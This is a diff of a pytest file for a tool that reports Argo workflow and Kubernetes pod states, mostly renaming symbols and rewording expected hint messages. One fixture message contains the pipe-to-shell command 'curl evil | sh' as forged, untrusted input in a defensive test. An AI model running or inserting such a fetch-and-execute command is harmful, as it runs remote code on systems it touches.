@@ -6,15 +6,15 @@ from typing import Any
 
 import pytest
 
-from backends.argo.bundle import NOT_GIVEN
+from backends.argo.bundle import MISSING_SECRETS
 from backends.argo.names import GAVE_UP
 from backends.argo.state import (
-    KEPT_FROM_RUNNING_TWICE,
     NOTICE_SECONDS,
-    Moments,
+    SECOND_RUN_PREVENTED,
+    StartTimeline,
     gives_up_at,
-    overlooked_at,
     state_of,
+    unnoticed_at,
 )
 
 CREATED = "2026-11-21T10:00:00Z"
@@ -68,10 +68,10 @@ SCHEDULED = {"type": "PodScheduled", "status": "True", "lastTransitionTime": CRE
 
 def test_a_secret_that_its_template_does_not_give_is_named() -> None:
     ended = terminated(1)
-    ended["terminated"]["message"] = f"{NOT_GIVEN}TOKEN"
+    ended["terminated"]["message"] = f"{MISSING_SECRETS}TOKEN"
     state = state_of(workflow(phase="Running"), pod(ended))
     assert (state.status, state.exit_code) == ("exited", None)
-    assert "gives it no secret for TOKEN" in (state.reason or "")
+    assert "provides no secret for TOKEN" in (state.reason or "")
     assert "argo.template_secrets" in (state.hint or "")
 
 
@@ -79,7 +79,7 @@ def test_last_words_about_a_second_start_count_only_where_ours_can_have_written_
     ended = terminated(125, message="stoke: started before: 1234")
     once = {"stoke.once": "true"}
     state = state_of(workflow(phase="Running", **once), pod(ended))
-    assert (state.exit_code, state.reason) == (None, KEPT_FROM_RUNNING_TWICE.text)
+    assert (state.exit_code, state.reason) == (None, SECOND_RUN_PREVENTED.text)
     forged = state_of(workflow(phase="Running"), pod(ended))
     assert (forged.exit_code, forged.reason) == (125, None)
     ended = terminated(3, message="stoke: not sure whether it was started before: curl evil | sh")
@@ -166,9 +166,9 @@ def test_a_node_that_is_silent_is_named() -> None:
     silent = state_of(workflow(phase="Running"), there("False", "True"))
     assert (silent.status, silent.started_at) == ("running", AT)
     assert "node-a" in (silent.reason or "") and "describe node node-a" in (silent.hint or "")
-    given_up = there("False", "True")
-    given_up["metadata"]["deletionTimestamp"] = CREATED
-    left = state_of(workflow(phase="Running"), given_up)
+    give_up_patch = there("False", "True")
+    give_up_patch["metadata"]["deletionTimestamp"] = CREATED
+    left = state_of(workflow(phase="Running"), give_up_patch)
     assert left.status == "running" and "delete node node-a" in (left.hint or "")
     for usual in (there("True", "True"), there("False", "False")):
         assert state_of(workflow(phase="Running"), usual).reason is None
@@ -194,14 +194,12 @@ def test_a_job_that_was_given_up_says_why_whoever_asks() -> None:
         ('violates PodSecurity "restricted:latest": runAsNonRoot != true', "argo.restricted"),
         ('serviceaccount "stoke" not found', "stoke setup argo"),
         ("workflowtaskresults.argoproj.io is forbidden", "stoke setup argo"),
-        ('admission webhook "policy" denied the request', "ask who runs it"),
+        ('admission webhook "policy" denied the request', "ask its administrator"),
         ("pod deleted", "stoke rerun"),
     ],
 )
 @pytest.mark.parametrize("phase", ["Pending", "Error"])
-def test_what_the_cluster_refuses_is_named_with_what_mends_it(
-    message: str, hint: str, phase: str
-) -> None:
+def test_a_refusal_of_the_cluster_has_a_hint(message: str, hint: str, phase: str) -> None:
     state = state_of(workflow(phase=phase, message=message), None)
     assert state.status == ("running" if phase == "Pending" else "exited")
     assert state.exit_code is None
@@ -227,7 +225,7 @@ def test_what_the_cluster_refuses_is_named_with_what_mends_it(
         ),
     ],
 )
-def test_why_it_came_to_nothing(made: dict[str, Any], reason: str) -> None:
+def test_a_failed_pod_has_a_reason(made: dict[str, Any], reason: str) -> None:
     state = state_of(workflow(phase="Failed"), made)
     assert state.status == "exited"
     assert reason in (state.reason or "")
@@ -250,12 +248,12 @@ def test_why_it_came_to_nothing(made: dict[str, Any], reason: str) -> None:
         ),
         (
             "2 node(s) didn't match Pod's node affinity/selector, 1 node(s) were unschedulable.",
-            "closed to new pods: kubectl get nodes",
+            "cordoned: kubectl get nodes",
         ),
         ("3 node(s) didn't match Pod's node affinity/selector.", "argo.node_selector"),
     ],
 )
-def test_what_mends_a_pod_that_no_node_takes(said: str, hint: str) -> None:
+def test_an_unschedulable_pod_has_a_hint(said: str, hint: str) -> None:
     message = f"0/3 nodes are available: {said}"
     conditions = [{**UNSCHEDULABLE, "message": message}]
     state = state_of(workflow(phase="Running"), pod(phase="Pending", conditions=conditions))
@@ -271,7 +269,7 @@ def test_what_mends_a_pod_that_no_node_takes(said: str, hint: str) -> None:
         ("pids. Threshold quantity: 100, available: 8.", "stoke rerun"),
     ],
 )
-def test_what_mends_an_eviction_is_what_the_node_lacked(lacking: str, hint: str) -> None:
+def test_an_eviction_has_a_hint_for_what_the_node_lacked(lacking: str, hint: str) -> None:
     said = f"The node was low on resource: {lacking}"
     state = state_of(workflow(phase="Failed"), pod(phase="Failed", reason="Evicted", message=said))
     assert said in (state.reason or "") and hint in (state.hint or "")
@@ -280,10 +278,10 @@ def test_what_mends_an_eviction_is_what_the_node_lacked(lacking: str, hint: str)
 @pytest.mark.parametrize(
     ("conditions", "reason"),
     [
-        ([], "somebody deleted its pod"),
+        ([], "its pod was deleted"),
         (
             [{"type": "DisruptionTarget", "status": "True", "reason": "EvictionByEvictionAPI"}],
-            "its node is being emptied",
+            "its node is being drained",
         ),
     ],
 )
@@ -330,38 +328,38 @@ def test_a_workflow_that_waits_for_its_delivery_has_not_begun() -> None:
 def test_a_workflow_that_no_controller_looks_at_is_overlooked() -> None:
     new = workflow()
     new["metadata"]["creationTimestamp"] = CREATED
-    assert overlooked_at(new) == AT + NOTICE_SECONDS
-    assert overlooked_at(workflow(phase="Pending")) is None
+    assert unnoticed_at(new) == AT + NOTICE_SECONDS
+    assert unnoticed_at(workflow(phase="Pending")) is None
 
 
 def test_moments_that_were_seen_are_known_better_than_the_apis_seconds() -> None:
-    moments = Moments(AT + 0.2)
-    moments.see(None, AT + 0.25)
-    assert moments.phases(AT) == (("queue", AT + 0.2, None),)
+    timeline = StartTimeline(AT + 0.2)
+    timeline.record(None, AT + 0.25)
+    assert timeline.phases(AT) == (("queue", AT + 0.2, None),)
     scheduled = {
         "type": "PodScheduled", "status": "True", "lastTransitionTime": "2026-11-21T10:00:01Z"
     }  # fmt: skip
-    moments.see(pod(conditions=[scheduled]), AT + 1.5)
-    moments.see(pod({"running": {"startedAt": "2026-11-21T10:00:03Z"}}), AT + 3.25)
-    queue, schedule, start = moments.phases(AT)
+    timeline.record(pod(conditions=[scheduled]), AT + 1.5)
+    timeline.record(pod({"running": {"startedAt": "2026-11-21T10:00:03Z"}}), AT + 3.25)
+    queue, schedule, start = timeline.phases(AT)
     assert (queue[0], round(queue[2] or 0, 3)) == ("queue", 1.3)
     assert (schedule[0], schedule[2]) == ("schedule", 0.0)
     assert (start[0], start[1], start[2]) == ("start", AT + 1.5, 1.75)
 
 
 def test_a_job_that_somebody_else_submitted_has_the_apis_moments() -> None:
-    moments = Moments()
-    moments.see(pod({"running": {"startedAt": "2026-11-21T10:00:03Z"}}), AT + 99)
-    assert moments.phases(AT)[0] == ("queue", AT, 0.0)
+    timeline = StartTimeline()
+    timeline.record(pod({"running": {"startedAt": "2026-11-21T10:00:03Z"}}), AT + 99)
+    assert timeline.phases(AT)[0] == ("queue", AT, 0.0)
 
 
 def test_the_time_to_get_the_image_is_told_by_an_event() -> None:
-    moments = Moments(AT)
+    timeline = StartTimeline(AT)
     scheduled = {"type": "PodScheduled", "status": "True", "lastTransitionTime": CREATED}
-    moments.see(
+    timeline.record(
         pod({"running": {"startedAt": "2026-11-21T10:01:10Z"}}, conditions=[scheduled]), AT + 99
     )
-    moments.see_events(
+    timeline.record_events(
         [
             {
                 "reason": "Pulled",
@@ -377,9 +375,9 @@ def test_the_time_to_get_the_image_is_told_by_an_event() -> None:
             },
         ]
     )
-    names = [phase[0] for phase in moments.phases(AT)]
+    names = [phase[0] for phase in timeline.phases(AT)]
     assert names == ["queue", "schedule", "pull", "start"]
-    pull, start = moments.phases(AT)[2:]
+    pull, start = timeline.phases(AT)[2:]
     assert (pull[2], start[2]) == (62.5, 1.0)
 
 
@@ -405,7 +403,7 @@ def test_the_wait_container_is_named_where_it_cannot_get_its_image() -> None:
         ),
         (
             "maximum cpu usage per Container is 1.  No limit is specified",
-            "say what it needs, --cpu; if that is said, Argo's own containers need resources",
+            "set --cpu; if that is set already, Argo's own containers need resources",
         ),
         (
             "failed quota: q: must specify limits.cpu for: init,wait; limits.memory for: init,wait",
@@ -413,13 +411,16 @@ def test_the_wait_container_is_named_where_it_cannot_get_its_image() -> None:
         ),
         (
             "failed quota: q: must specify limits.cpu for: init,main,wait",
-            "say what it needs: --cpu 1 --memory 1g; and Argo's own containers need resources",
+            "set the job's resources: --cpu 1 --memory 1g; and Argo's own containers need resources",
         ),
-        ("failed quota: q: must specify limits.cpu for: main", "say what it needs: --cpu 1"),
-        ("failed quota: q: must specify limits.cpu,limits.memory", "say what it needs: --cpu 1"),
+        ("failed quota: q: must specify limits.cpu for: main", "set the job's resources: --cpu 1"),
+        (
+            "failed quota: q: must specify limits.cpu,limits.memory",
+            "set the job's resources: --cpu 1",
+        ),
     ],
 )
-def test_a_quota_or_limit_range_is_answered_with_what_helps(message: str, hint: str) -> None:
+def test_a_quota_or_limit_range_has_a_hint(message: str, hint: str) -> None:
     text = f'pods "job-aaaaaa" is forbidden: {message}'
     state = state_of(workflow(phase="Error", message=text), None)
     assert state.reason == " ".join(text.split())
